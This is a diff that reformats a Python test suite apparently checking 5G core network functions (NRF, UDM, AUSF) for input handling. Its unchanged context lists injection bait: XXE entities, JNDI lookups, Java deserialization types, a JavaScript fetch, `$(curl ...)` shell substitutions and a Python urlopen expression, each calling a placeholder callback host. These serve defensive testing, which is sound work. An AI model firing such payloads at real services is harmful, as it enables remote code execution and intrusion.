@@ -33,7 +33,9 @@ RANGES = Case(
 TAKEN = (200, 201)
 
 
-@CODE.sub("A", "bodies that name what is to be run or fetched", needs=("sbi nrf", "sbi address"), within=120.0)
+@CODE.sub(
+    "A", "bodies that name what is to be run or fetched", needs=("sbi nrf", "sbi address"), within=120.0
+)
 async def no_code(trial: Trial) -> None:
     fetched: list[str] = []
 
@@ -60,20 +62,28 @@ async def no_code(trial: Trial) -> None:
         with trial.finding("nothing that was pointed to has become part of the profile"):
             own = await me.ask("GET", me.place)
             check.that(own.status == 404 or own.tree.get("nfStatus") != "SUSPENDED", "it has")
-        await answers(trial, "a profile without such things, afterwards", me.register(me.profile("AMF")), TAKEN)
+        await answers(
+            trial, "a profile without such things, afterwards", me.register(me.profile("AMF")), TAKEN
+        )
     del place
 
 
 def _baits(root: str) -> Iterator[tuple[str, dict[str, object]]]:
     yield "a reference", {"$ref": f"{root}/ref"}
-    yield "a reference in the place of a value", {"nfStatus": "REGISTERED", "customInfo": {"$ref": f"{root}/inner"}}
+    yield (
+        "a reference in the place of a value",
+        {"nfStatus": "REGISTERED", "customInfo": {"$ref": f"{root}/inner"}},
+    )
     yield "an include", {"$include": f"{root}/include", "@import": f"{root}/import"}
     yield "an entity", {"customInfo": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{root}/entity">]><x>&e;</x>'}
     yield "a look-up", {"fqdn": f"${{jndi:{root}/lookup}}.example"}
     yield "a type to be made", {"@class": "java.net.URL", "@type": "java.net.URL", "val": f"{root}/class"}
     yield "a script", {"customInfo": f"(function(){{fetch('{root}/script')}})()"}
     yield "a shell command", {"locality": f"$(curl -k {root}/shell) `curl -k {root}/tick`; curl {root}/semi"}
-    yield "an expression of Python", {"locality": f"__import__('urllib.request').request.urlopen('{root}/eval')"}
+    yield (
+        "an expression of Python",
+        {"locality": f"__import__('urllib.request').request.urlopen('{root}/eval')"},
+    )
     yield "a prototype", {"__proto__": {"nfStatus": "SUSPENDED"}, "constructor": {"prototype": {"x": 1}}}
 
 
@@ -99,7 +109,13 @@ async def unique_at_the_nrf(trial: Trial) -> None:
 
 
 DOUBLE = (
-    ("UDM", "nudm-ueau", "AUSF", f"/nudm-ueau/v1/{NOBODY}/security-information/generate-auth-data", "servingNetworkName"),
+    (
+        "UDM",
+        "nudm-ueau",
+        "AUSF",
+        f"/nudm-ueau/v1/{NOBODY}/security-information/generate-auth-data",
+        "servingNetworkName",
+    ),
     ("AUSF", "nausf-auth", "AMF", "/nausf-auth/v1/ue-authentications", "supiOrSuci"),
 )
 
@@ -196,7 +212,12 @@ async def ranges_at_producers(trial: Trial) -> None:
                 what = f"without {name}" if value is None else f"{name} {json.dumps(value)[:40]}"
                 asked = place.ask("POST", target, authentication(place, **{name: value}))
                 await refuses(trial, f"{nf_type}: {what}", asked, (400,))
-            for what, octets in (("no object", b"[]"), ("null", b"null"), ("cut off", b'{"a'), ("nothing", b"")):
+            for what, octets in (
+                ("no object", b"[]"),
+                ("null", b"null"),
+                ("cut off", b'{"a'),
+                ("nothing", b""),
+            ):
                 await refuses(trial, f"{nf_type}: {what}", place.ask("POST", target, octets), (400,))
             twin = place.ask("POST", target, authentication(place))
             await answers(trial, f"{nf_type}: nobody's authentication, afterwards", twin, (403, 404))
